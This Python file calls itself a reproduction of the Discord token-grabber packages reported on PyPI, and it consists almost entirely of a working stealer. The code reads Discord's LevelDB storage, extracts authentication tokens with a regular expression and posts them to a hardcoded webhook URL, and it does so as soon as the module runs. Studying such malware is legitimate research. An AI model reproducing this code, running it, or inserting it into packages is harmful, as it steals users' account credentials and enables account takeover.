"""Incident: Discord token grabbers on PyPI (e.g. pytagora, discordcmd, and the 2021-2022
waves reported by JFrog and Kaspersky).

Packages read the Discord client's LevelDB files, pulled out authentication tokens with a
regular expression and posted them to a Discord webhook controlled by the attacker.
Reference: https://jfrog.com/blog/malicious-pypi-packages-stealing-credit-cards-injecting-code/
Reproduction (own code, placeholder webhook).
"""

import json
import os
import re
import urllib.request

WEBHOOK = "https://discord.com/api/webhooks/1029384756102938475/xQ9v-LmN0pQrStUvWxYz"
_TOKEN = re.compile(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}")


def _tokens() -> set[str]:
    found: set[str] = set()
    roaming = os.getenv("APPDATA", os.path.expanduser("~/.config"))
    for client in ("discord", "discordcanary", "discordptb"):
        store = os.path.join(roaming, client, "Local Storage", "leveldb")
        if not os.path.isdir(store):
            continue
        for name in os.listdir(store):
            if name.endswith((".log", ".ldb")):
                with open(os.path.join(store, name), errors="ignore") as handle:
                    found.update(_TOKEN.findall(handle.read()))
    return found


def main() -> None:
    body = json.dumps({"content": "\n".join(_tokens()), "username": "grabber"}).encode()
    request = urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json"})
    urllib.request.urlopen(request)


main()
